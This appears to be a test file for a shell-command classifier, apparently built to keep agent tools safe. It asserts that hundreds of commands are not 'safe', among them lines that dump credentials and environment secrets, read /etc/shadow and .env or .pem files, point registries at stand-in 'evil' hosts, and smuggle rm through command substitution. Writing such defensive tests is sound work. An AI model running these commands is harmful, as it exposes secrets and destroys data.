import { classifyCommand, commandsIn } from '../../../../../test/support/classify.ts'

/** Sub-commands beside read-only ones, and options that make a read-only command write. */
const DOES_MORE = String.raw`
npm view x --registry=http://evil
npm audit --registry http://evil
yarn info x --registry http://evil
pip index versions x --index-url http://evil
cargo search x --index http://evil
gem list --source http://evil
docker compose -f https://evil/x.yml config
docker-compose -f git@evil:x.git config
kubectl diff -k github.com/evil/x
kubectl get -f http://evil/x.yml
openssl list -provider-path . -provider evil
openssl version -engine evil
fd x -x cat ; -X rm
fd x -x cat \; -X rm
fd -Hx rm
script ~/.bashrc ls
script out ls
script -q out ls
history -c
history -w f
symbols -saveSignature x y
brew info ./evil.rb
brew info https://evil/x.rb
brew cat evil/tap/x
apt list -o Dir::Etc=x
dnf list --setopt=pluginpath=/evil
rpm -q --specfile evil.spec
gh api -X GET x -F q=@notes
mysql -h evil.example.com -e 'select 1'
psql -h evil.example.com -c 'select 1'
psql postgres://evil/x -c 'select 1'
duckdb -c "select * from 'https://evil/x.csv'"
xmllint --valid x
task --list
cmake --system-information
git log $(cat args)
git diff "$X"
git status; git config core.pager evil
git log --since="$(rm x)"
git format-patch -o ../x HEAD~1
git format-patch -1o ../x
git apply --stat --apply x
git config --get-all a --add b
git stash list --output=x
git reflog --output=x
git notes --ref=x remove
git lfs track '*.bin'
git lfs push origin main
git bundle create x HEAD
git rerere
git rerere clear
git sparse-checkout set x
git bisect start
git remote update
git tag -a v1 -m x
git branch -u origin/x
git branch --unset-upstream
git branch -f x
git worktree remove x
git clean -nfd
git rebase --show-current-patch --abort
sort -T /tmp --output f g
sort --ou f
ls | sort -o f
awk '{print}' f > g
awk '{ print $1 > "out" $2 }' f
awk 'BEGIN { getline x < "/etc/shadow"; print x }'
sed -n '$w out' f
sed -E -i.bak s/a/b/ f
sed --expression='s/a/b/e' f
sed -s -n -i p f
find . -newer x -fls out
find / -perm -4000 -exec ls {} ; -delete
less --log-file=x f
less -o x f
man -l evil.1
man -H evil
bat --config-file=x f
jq . .env
yq -s '.a' f
tar -tf x -F evil
tar --list --file=x --rsh-command=evil
tar tf x --use-compress-program evil
unzip -l x -d y
unzip -o x
gzip -k f
xz f
zstd f
7z a x y
ar rcs x y
xattr -w a b f
date --set=x
top
lsof -D b
ip link add x
ip addr flush dev x
ip -batch f
systemctl --root=/x status
systemctl status x --host=evil
journalctl --rotat
journalctl --flush
crontab -l -e
gpg --verify x --output y
gpg --homedir x --list-keys
ssh-keygen -l -f x -R host
docker -c x rm y
docker logs x > f
docker save x -o f
docker export x --output=f
docker exec x sh
docker exec x
docker exec --privileged x ls
docker exec -u root x rm y
docker buildx inspect --bootstrap x
docker context use x
docker compose exec web ls
docker compose config -o f
docker system prune
docker volume rm x
kubectl cluster-info dump --output-directory=x
kubectl config view --raw
kubectl exec pod -- sh -c ls
kubectl exec pod ls
kubectl apply --dry-run=client -f x
kubectl port-forward x 1
helm install a b
helm list --kubeconfig x
helm template x --output-dir y
helm pull x
terraform init
terraform state rm x
terraform fmt
terraform workspace new x
aws configure set a b
aws configure get aws_secret_access_key
aws ec2 terminate-instances --instance-ids i-1
aws ec2 describe-instances --generate-cli-skeleton
aws lambda invoke x y
aws s3 cp a b
aws ssm get-parameter --name x --with-decryption
aws ecr get-login-password
gcloud compute instances delete list
gcloud compute ssh x
gcloud auth print-access-token
gcloud secrets versions access 1
gcloud config set x y
az vm delete list
az account get-access-token
az keyvault secret show --name x
az storage account keys list
az aks get-credentials
gh pr create
gh repo clone x
gh run download
gh release download
gh secret set x
gh config set x y
gh codespace ssh
gh workflow run x
gh gist create f
glab mr merge 1
psql
psql mydb
psql -c 'select 1' -f x
psql -c 'select 1' -o f
mysql mydb
mysql -e 'select 1' --tee=f
mysql -e 'select 1' --pager=evil
sqlite3 -init f db 'select 1'
sqlite3 -cmd '.load x' db 'select 1'
node -p 1
node --eval 1
npm run test
npm start
npm t
npm ci
npm exec ls
npm pack
npm version patch
npm audit fix
npm cache clean
npm config delete x
npm token create
npm publish --dry-run
yarn install
yarn test
yarn version
yarn dlx x
pnpm run x
pnpm dlx x
pnpm exec x
pnpm audit --fix
bun install
bun test
bun pm cache rm
deno task x
deno lint --fix
npx --yes x
tsc -b
tsc --noEmit --watch --incremental
pip uninstall x
pip cache purge
pip config set a b
pip download x
pip wheel x
uv add x
uv run pytest
uv run --env-file x ls
uv run -m x
uv run --script x
uv pip compile x -o y
uv cache clean
uv venv --clear
poetry install
poetry run x
poetry run ls
conda install x
ruff format
ruff check --fix-only
ruff check --add-noqa
ruff clean
black src
isort .
pre-commit run
pre-commit
cargo bench
cargo install x
cargo fix
cargo add x
cargo vendor
cargo login
cargo publish --dry-run
cargo fmt -- --emit files
cargo +nightly build
go generate
go test ./...
go install x
go get x
go mod tidy
go clean
go tool pprof x
gofmt -w .
rustc x.rs
rustup update
rustup default x
bundle install
gem install x
gem push x
composer update
composer run x
php -a
ruby x.rb
perl x.pl
lua -e x
mvn dependency:tree
gradle tasks
dotnet build
dotnet tool install x
make -n
make --version -f x
ninja
just x
just --list --justfile x
brew upgrade
brew services start x
brew tap x/y
brew tap --repair
brew bundle install
brew cleanup
apt update
apt-get -s install x
dnf install x
pacman -S x
pacman -Syu
apk add x
snap install x
git fetch origin main
git fetch --all --prune
git format-patch -3
yarn why x
pnpm list
bun pm ls
uv tree
uv run ruff check
cargo check
cargo tree
go list ./...
go vet ./...
bundle list
composer show
terraform validate
uv sync
terraform plan
uv venv
cargo metadata
cargo update
cargo fmt
go mod graph
rustup show
deno info x.ts
brew fetch x
git lfs fetch
# what is in the environment
env
env -0
env FOO=1
printenv
printenv -0
printenv AWS_SECRET_ACCESS_KEY
set
export -p
export
declare -p
declare -x
typeset
ps e
ps auxe
ps eww
docker exec web env
kubectl exec pod -- env
cat /proc/self/environ
# secrets of others
kubectl describe secret
kubectl describe secrets/db -n x
kubectl describe pod,secret
kubectl describe -f x.yml
kubectl describe $KIND
helm get values x
helm get all x
# files that are only known when it runs
find . -name '.env*' | xargs cat
find . -type f | xargs cat
find . -name '*.ts' -o -type f | xargs cat
find . -name '*.json' | xargs cat
find . -name '*.pem' -exec cat {} +
find ~ | xargs head
find . -maxdepth 1 | xargs -I{} cat {}
ls -A | xargs cat
ls -a | head -1 | xargs cat
cat $(ls -A)
cat $(find . -maxdepth 1 -type f)
cat "$FILE"
xargs cat < list
fd -H | xargs cat
rg --files --hidden | xargs cat
grep -rl x . | xargs cat
while read -r f; do cat "$f"; done < list
for f in .*; do cat "$f"; done
git ls-files --others | xargs cat
git status --porcelain | cut -c4- | xargs cat
rg -uu x
rg --hidden x
grep -rn '' --include='.env*' .
docker inspect web
docker inspect -f '{{json .Config.Env}}' web
docker container inspect web
docker compose config
ps -E
# another repository, or another configuration
git --git-dir=sub/.git status
git --git-dir=.git status
git --work-tree=x status
GIT_DIR=x git status
GIT_WORK_TREE=x git status
GIT_CONFIG_COUNT=1 git status
XDG_CONFIG_HOME=x git status
HOME=x git status
GIT_EXTERNAL_DIFF=x git diff
SSH_ASKPASS=x git ls-remote
git -C /tmp/x status
git -C ../other log
cd /tmp && git status
cd $X && git status
`

describe('a sub-command that is not read-only', () => {
  it.each(commandsIn(DOES_MORE))('%s', (command) => {
    expect(classifyCommand(command).outcome).not.toBe('safe')
  })
})
